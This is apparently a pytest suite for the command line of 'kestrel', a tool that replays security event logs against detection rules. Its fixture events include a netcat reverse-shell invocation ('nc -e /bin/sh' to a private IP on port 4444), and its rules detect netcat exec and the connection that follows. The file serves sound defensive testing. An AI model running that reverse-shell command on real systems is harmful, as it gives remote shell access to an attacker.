"""The command line, run as a user runs it: a subprocess, real files."""

from __future__ import annotations

import json
import pathlib
import subprocess
import sys

import msgpack

EVENTS = [
    {"@timestamp": "2026-01-01T00:00:00Z", "event": {"category": "process", "type": "start"},
     "process": {"name": "nc", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "entity_id": "a", "pid": 42}},
    {"@timestamp": "2026-01-01T00:00:01Z", "event": {"category": "network"}, "process": {"entity_id": "a"},
     "destination": {"ip": "10.0.0.1", "port": 4444}},
    {"@timestamp": "2026-01-01T00:00:02Z", "event": {"category": "process", "type": "start"},
     "process": {"name": "ls", "args": ["ls"], "entity_id": "b", "pid": 43}},
]

RULE = '''
[[rule]]
id = "nc-exec"
name = "netcat -e"
severity = "high"
tags = ["attack.t1059"]
query = 'process where process.name == "nc" and process.args : "-e"'

[[rule]]
id = "nc-then-connect"
name = "netcat then connect"
query = \'\'\'
sequence by process.entity_id with maxspan=5s
  [process where process.name == "nc"]
  [network where destination.port == 4444]
\'\'\'
'''


def kestrel(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kestrel", *args], input=stdin, capture_output=True, timeout=120)


def write_events(tmp: pathlib.Path, extra_lines: list[str] = ()) -> str:
    p = tmp / "events.jsonl"
    lines = [json.dumps(e) for e in EVENTS[:1]] + list(extra_lines) + [json.dumps(e) for e in EVENTS[1:]]
    p.write_text("\n".join(lines) + "\n")
    return str(p)


def write_rules(tmp: pathlib.Path) -> str:
    p = tmp / "rules.toml"
    p.write_text(RULE)
    return str(p)


def alerts_of(stdout: bytes) -> list[dict]:
    return [json.loads(line) for line in stdout.decode().splitlines() if line.strip()]


def test_replay_jsonl(tmp_path: pathlib.Path) -> None:
    r = kestrel("replay", write_events(tmp_path), "--rules", write_rules(tmp_path))
    assert r.returncode == 0, r.stderr
    alerts = alerts_of(r.stdout)
    assert [a["rule"]["id"] for a in alerts] == ["nc-exec", "nc-then-connect"]
    seq = alerts[1]
    assert seq["rule"] == {"id": "nc-then-connect", "name": "netcat then connect", "severity": "medium", "tags": []}
    assert [e["process"]["entity_id"] for e in seq["events"]] == ["a", "a"]
    assert seq["@timestamp"] == "2026-01-01T00:00:01.000Z"
    err = r.stderr.decode()
    assert "events 3, alerts 2, skipped 0" in err and "events/s" in err


def test_malformed_lines_are_counted_with_positions(tmp_path: pathlib.Path) -> None:
    path = write_events(tmp_path, ['{"truncated": ', "17"])
    r = kestrel("replay", path, "-r", write_rules(tmp_path))
    assert r.returncode == 0
    assert len(alerts_of(r.stdout)) == 2
    err = r.stderr.decode()
    assert "skipped 2" in err
    assert "events.jsonl:2:" in err and "events.jsonl:3:" in err
    assert "Traceback" not in err


def test_replay_msgpack_from_stdin_and_output_file(tmp_path: pathlib.Path) -> None:
    data = b"".join(msgpack.packb(e) for e in EVENTS)
    out = tmp_path / "alerts.jsonl"
    r = kestrel("replay", "-", "-r", write_rules(tmp_path), "-o", str(out), stdin=data)
    assert r.returncode == 0, r.stderr
    assert r.stdout == b""
    assert [a["rule"]["id"] for a in alerts_of(out.read_bytes())] == ["nc-exec", "nc-then-connect"]


def test_replay_json_array(tmp_path: pathlib.Path) -> None:
    p = tmp_path / "events.json"
    p.write_text(json.dumps(EVENTS, indent=2))
    r = kestrel("replay", str(p), "-r", write_rules(tmp_path), "-q")
    assert r.returncode == 0 and len(alerts_of(r.stdout)) == 2 and r.stderr == b""


def test_query_prints_matches_in_alert_format(tmp_path: pathlib.Path) -> None:
    r = kestrel("query", 'process where process.name in ("nc", "ls") | tail 1', write_events(tmp_path), "-q")
    assert r.returncode == 0
    (alert,) = alerts_of(r.stdout)
    assert alert["events"] == [EVENTS[2]]
    assert alert["rule"]["id"] == "query"


def test_query_endgame_schema(tmp_path: pathlib.Path) -> None:
    p = tmp_path / "eg.jsonl"
    rows = [
        {"event_type": "process", "timestamp": 131509374020000000, "process_name": "CMD.exe", "unique_pid": 1},
        {"event_type": "process", "timestamp": 131509374030000000, "process_name": "calc.exe", "unique_pid": 2},
    ]
    p.write_text("\n".join(json.dumps(x) for x in rows))
    r = kestrel("query", "--dialect", "endgame", 'process where process_name == "cmd.exe"', str(p), "-q")
    assert r.returncode == 0 and len(alerts_of(r.stdout)) == 1


def test_query_syntax_error_exit_2_without_traceback(tmp_path: pathlib.Path) -> None:
    r = kestrel("query", "process where (", write_events(tmp_path))
    assert r.returncode == 2
    err = r.stderr.decode()
    assert "1:16: syntax error" in err and "^" in err and "Traceback" not in err


def test_missing_input_exit_2(tmp_path: pathlib.Path) -> None:
    r = kestrel("replay", str(tmp_path / "nope.jsonl"), "-r", write_rules(tmp_path))
    assert r.returncode == 2
    assert "cannot read" in r.stderr.decode() and "Traceback" not in r.stderr.decode()


def test_rules_check(tmp_path: pathlib.Path) -> None:
    good = write_rules(tmp_path)
    r = kestrel("rules", "check", good)
    assert r.returncode == 0 and b"2 rules loaded from 1 files: OK" in r.stdout
    (tmp_path / "bad.toml").write_text('[[rule]]\nid = "bad"\nquery = "process where a =="\n')
    r = kestrel("rules", "check", str(tmp_path))
    assert r.returncode == 1
    err = r.stderr.decode()
    assert "bad.toml:3:" in err and "error (rule bad)" in err and "Traceback" not in err
    assert b"1 error" in r.stdout


def test_rules_test_reports_like_pytest(tmp_path: pathlib.Path) -> None:
    rule = '''[[rule]]
id = "t"
query = 'process where process.name == "nc"'
[[rule.tests]]
name = "hit"
expect = 1
[[rule.tests.events]]
event.category = "process"
process.name = "nc"
[[rule.tests]]
name = "wrongly expects nothing"
expect = 0
[[rule.tests.events]]
event.category = "process"
process.name = "nc"
'''
    (tmp_path / "t.toml").write_text(rule)
    r = kestrel("rules", "test", str(tmp_path))
    assert r.returncode == 1
    out = r.stdout.decode()
    assert "t.toml::t::wrongly expects nothing FAILED" in out
    assert "expected 0 alerts, got 1" in out
    assert "1 passed, 1 failed" in out


def test_schema_options(tmp_path: pathlib.Path) -> None:
    p = tmp_path / "custom.jsonl"
    p.write_text('{"kind": "proc", "t": 5, "exe": "nc"}\n{"kind": "net", "t": 9, "port": 1}\n')
    q = 'sequence with maxspan=5s [proc where exe == "nc"] [net where port == 1]'
    r = kestrel("query", q, str(p), "--type-field", "kind", "--time-field", "t", "--time-unit", "s", "-q")
    assert r.returncode == 0 and len(alerts_of(r.stdout)) == 1
    cfg = tmp_path / "kestrel.toml"
    cfg.write_text('type_field = "kind"\ntime_field = "t"\ntime_unit = "ms"\n')
    r = kestrel("query", q, str(p), "--config", str(cfg), "-q")
    assert r.returncode == 0 and len(alerts_of(r.stdout)) == 1


def test_help_and_usage_errors() -> None:
    r = kestrel("--help")
    assert r.returncode == 0 and b"replay" in r.stdout and b"Exit codes" in r.stdout
    for sub in (["replay", "--help"], ["query", "--help"], ["rules", "check", "--help"], ["rules", "test", "--help"]):
        assert kestrel(*sub).returncode == 0
    assert kestrel().returncode == 2
    assert kestrel("replay", "--dialect", "sql").returncode == 2
